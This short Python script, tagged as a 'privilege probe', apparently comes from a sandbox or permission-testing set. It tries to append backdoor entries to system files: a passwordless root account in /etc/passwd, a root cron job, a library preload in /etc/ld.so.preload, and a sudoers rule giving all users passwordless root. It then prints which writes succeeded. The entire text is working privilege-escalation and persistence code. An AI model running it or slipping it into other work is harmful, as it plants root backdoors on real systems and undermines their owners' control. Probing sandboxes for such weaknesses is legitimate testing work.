# class: privilege probe; possible: low medium; style: writes below /etc
for path, text in [("/etc/passwd", "r::0:0::/:/bin/sh\n"), ("/etc/cron.d/job", "* * * * * root id\n"),
                   ("/etc/ld.so.preload", "/tmp/x.so\n"), ("/etc/sudoers.d/a", "ALL ALL=(ALL) NOPASSWD: ALL\n")]:
    try:
        with open(path, "a") as fh:
            fh.write(text)
        print("wrote", path)
    except OSError as e:
        print(e)
